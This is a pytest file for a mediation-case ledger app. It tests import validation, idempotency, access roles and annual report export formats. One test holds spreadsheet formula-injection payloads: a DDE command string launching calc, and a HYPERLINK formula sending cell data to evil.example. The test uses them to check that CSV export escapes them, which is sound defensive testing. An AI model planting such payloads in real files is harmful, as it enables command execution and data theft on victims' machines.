"""Ledger (台账) and annual report endpoints: import (dry run, located errors, idempotent), export, report formats."""

import io
import json
import os
import subprocess
import sys

from sqlalchemy import func, select

from engine.ledger.codes import COLUMNS
from engine.store.tables import cases
from tests.helpers.api import client_for, make_app
from tests.helpers.ledger import read_xlsx, row, write_csv, write_xlsx
from tests.helpers.paths import ROOT
from tests.helpers.reports import seed_rows

IMPORT, EXPORT, REPORT = "/api/v1/ledger/import", "/api/v1/ledger/export", "/api/v1/reports/annual"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SEED_SENTENCE = "共调处民间纠纷825宗，成功811宗，疑难复杂案件9件，调解成功率达98.30%，涉及金额568.82万元"


def _count(db) -> int:
    with db.begin() as c:
        return c.execute(select(func.count()).select_from(cases)).scalar_one()


def _upload(path, name=None):
    return {"file": (name or path.name, path.read_bytes(), "application/octet-stream")}


def test_import_dry_run_then_import_then_again_changes_nothing(db, sup, tmp_path):
    path = write_xlsx(tmp_path / "台账.xlsx", [row("A-1"), row("A-2", 处理结果="撤回"), row("A-3", 结案日期=None, 处理结果=None)])
    dry = sup.post(IMPORT, params={"dry_run": "true"}, files=_upload(path))
    assert dry.status_code == 200, dry.text
    assert dry.json() == {"file": "台账.xlsx", "rows": 3, "imported": 3, "unchanged": 0, "dry_run": True, "warnings": [],
                          "unknown_terms": []}
    assert _count(db) == 0
    first = sup.post(IMPORT, files=_upload(path))
    assert first.status_code == 200, first.text
    assert (first.json()["imported"], first.json()["unchanged"], first.json()["dry_run"]) == (3, 0, False)
    again = sup.post(IMPORT, files=_upload(path))
    assert (again.json()["imported"], again.json()["unchanged"]) == (0, 3)
    assert _count(db) == 3
    with db.begin() as c:
        statuses = dict(c.execute(select(cases.c.case_number, cases.c.status)).all())
    assert statuses == {"A-1": "completed", "A-2": "completed", "A-3": "active"}


def test_a_bad_file_is_refused_with_located_problems_and_nothing_is_stored(db, tmp_path):
    app = make_app(db)
    rows = [row("OK-1"), row("DUP"), row("DUP"), row("B-1", accepted="2025-02-30"), row("B-2", **{"涉及金额(元)": "-1"}),
            row("B-3", 结案日期="2025-01-01")]
    path = write_csv(tmp_path / "bad.csv", rows, encoding="gbk", columns=(*COLUMNS, "经办人"))
    for params in ({}, {"dry_run": "true"}):
        r = client_for(app, "admin1", lang="en").post(IMPORT, params=params, files=_upload(path))
        assert r.status_code == 422, r.text
        body = r.json()
        assert body["error"] == "ledger_rejected" and "nothing was imported" in body["message"]
        located = {(p["row"], p["column"]) for p in body["problems"]}
        assert located == {(4, "案号"), (5, "受理日期"), (6, "涉及金额(元)"), (7, "结案日期")}
        assert all(p["reason"] for p in body["problems"])
        assert [(w["row"], w["column"]) for w in body["warnings"]] == [(0, "经办人")]
    zh = client_for(app, "super1").post(IMPORT, files=_upload(path)).json()
    assert zh["message"] == "台账文件校验未通过，未导入任何案件"
    assert _count(db) == 0


def test_missing_required_columns_and_unreadable_files_are_422(db, sup, tmp_path):
    path = write_csv(tmp_path / "short.csv", [row("A-1")], columns=("案号", "受理日期", "社区"))
    r = sup.post(IMPORT, files=_upload(path))
    assert r.status_code == 422
    assert {p["column"] for p in r.json()["problems"]} >= {"纠纷类型", "处理机构"}
    broken = sup.post(IMPORT, files={"file": ("x.xlsx", b"PK not really a zip", "application/octet-stream")})
    assert broken.status_code == 422 and broken.json()["error"] == "invalid_data"
    wrong = sup.post(IMPORT, files={"file": ("ledger.pdf", b"%PDF-1.4", "application/pdf")})
    assert wrong.status_code == 422 and ".xlsx" in wrong.json()["detail"]
    assert _count(db) == 0


def test_ten_thousand_rows_fit_the_upload_limit_and_an_oversize_file_is_413(db, sup, tmp_path):
    path = write_xlsx(tmp_path / "big.xlsx", [row(f"TJ-{i:05d}", 备注="当事人因噪音问题发生纠纷" * 3) for i in range(10_000)])
    r = sup.post(IMPORT, params={"dry_run": "true"}, files=_upload(path))
    assert r.status_code == 200, r.text
    assert r.json()["imported"] == 10_000
    huge = sup.post(IMPORT, files={"file": ("huge.csv", b"x" * 21_000_000, "text/csv")})
    assert huge.status_code == 413 and huge.json()["error"] == "body_too_large"
    assert _count(db) == 0


def test_roles_and_login(app, tmp_path):
    path = write_csv(tmp_path / "l.csv", [row("A-1")])
    anonymous = client_for(app)
    assert anonymous.post(IMPORT, files=_upload(path)).status_code == 401
    assert anonymous.get(EXPORT, params={"year": 2025}).status_code == 401
    assert anonymous.get(REPORT, params={"year": 2025}).status_code == 401
    for user in ("mediator1", "window1", "lawyer1"):
        c = client_for(app, user)
        assert c.post(IMPORT, files=_upload(path)).status_code == 403
        assert c.get(EXPORT, params={"year": 2025}).status_code == 403
        assert c.get(REPORT, params={"year": 2025}).status_code == 403
    leader = client_for(app, "leader1")
    assert leader.post(IMPORT, files=_upload(path)).status_code == 403  # leaders read, they do not import
    assert leader.get(REPORT, params={"year": 2025}).status_code == 200
    assert client_for(app, "admin1").post(IMPORT, files=_upload(path)).status_code == 200
    assert client_for(app, "super1").get(REPORT, params={"year": 2025, "format": "doc"}).status_code == 422


def test_export_round_trips_through_import(db, app, sup, tmp_path):
    rows = [row("A-1", "2025-02-01", 引导去向="人民调解"), row("A-2", "2025-03-05", **{"追回金额(元)": "12.50"}),
            row("OLD-1", "2024-06-01")]
    assert sup.post(IMPORT, files=_upload(write_csv(tmp_path / "l.csv", rows))).status_code == 200
    r = client_for(app, "leader1").get(EXPORT, params={"year": 2025})
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-2025.xlsx"')
    out = tmp_path / "export.xlsx"
    out.write_bytes(r.content)
    exported = read_xlsx(out)
    assert [x[0] for x in exported[1:]] == ["A-1", "A-2"]
    again = sup.post(IMPORT, files=_upload(out))
    assert (again.json()["rows"], again.json()["imported"], again.json()["unchanged"]) == (2, 0, 2)


def _cli_json(db, year: int) -> dict:
    env = {**os.environ, "TIAOJIE_DATABASE_URL": db.url}
    proc = subprocess.run([sys.executable, "-m", "cli.main", "report", "annual", "--year", str(year)], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_report_json_equals_the_cli_and_every_format_has_its_type(db, app, sup, tmp_path):
    from pypdf import PdfReader

    assert sup.post(IMPORT, files=_upload(write_csv(tmp_path / "seed.csv", seed_rows()))).json()["imported"] == 1175
    leader = client_for(app, "leader1")
    r = leader.get(REPORT, params={"year": 2025})
    assert r.status_code == 200 and r.headers["content-type"] == "application/json"
    assert r.json() == _cli_json(db, 2025)
    assert (r.json()["mediation"]["handled"], r.json()["mediation"]["success_rate"]) == (825, "0.9830")

    md = leader.get(REPORT, params={"year": 2025, "format": "md"})
    assert md.headers["content-type"] == "text/markdown; charset=utf-8"
    assert md.headers["content-disposition"].startswith('inline; filename="annual-2025.md"')
    assert SEED_SENTENCE in md.text

    xlsx = leader.get(REPORT, params={"year": 2025, "format": "xlsx"})
    assert xlsx.headers["content-type"] == XLSX and "attachment" in xlsx.headers["content-disposition"]
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(xlsx.content))
    assert wb.sheetnames[:3] == ["概览", "人民调解", "信访"]
    figures = {r[0]: r[1] for r in wb["人民调解"].iter_rows(values_only=True) if r[0]}
    assert figures["调处纠纷（宗）"] == 825 and figures["涉及金额（元）"] == 5688200

    pdf = leader.get(REPORT, params={"year": 2025, "format": "pdf"})
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert 'filename="annual-2025.pdf"' in pdf.headers["content-disposition"]
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).replace("\n", "")
    assert SEED_SENTENCE in text


def test_export_as_csv_marks_formula_like_text(db, app, sup, tmp_path):
    hostile = "=cmd|' /C calc'!A0"
    rows = [row("C-1", "2025-02-01", 申请人=hostile, 备注='=HYPERLINK("http://evil.example/?"&A1,"click")')]
    assert sup.post(IMPORT, files=_upload(write_csv(tmp_path / "l.csv", rows))).status_code == 200
    r = client_for(app, "leader1").get(EXPORT, params={"year": 2025, "format": "csv"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-2025.csv"')
    lines = r.content.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert f"'{hostile}" in lines[1] and "'=HYPERLINK(" in lines[1]
    out = tmp_path / "export.csv"
    out.write_bytes(r.content)
    again = sup.post(IMPORT, files=_upload(out))
    assert (again.json()["rows"], again.json()["imported"], again.json()["unchanged"]) == (1, 0, 1)
    bad = client_for(app, "leader1").get(EXPORT, params={"year": 2025, "format": "xls"})
    assert bad.status_code == 422 and "format" in bad.json()["fields"]


def test_cli_exports_csv_by_the_file_name(db, tmp_path):
    from engine.ledger import import_file

    with db.begin() as c:
        assert import_file(c, write_csv(tmp_path / "l.csv", [row("C-1", 申请人="@SUM(1+1)")])).ok
    out = tmp_path / "台账.csv"
    env = {**os.environ, "TIAOJIE_DATABASE_URL": db.url}
    proc = subprocess.run([sys.executable, "-m", "cli.main", "ledger", "export", str(out), "--year", "2025"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "1 rows written" in proc.stdout
    assert out.read_bytes().decode("utf-8-sig").splitlines()[1].startswith("C-1,2025-03-01,")
    assert ",'@SUM(1+1)," in out.read_text(encoding="utf-8-sig")
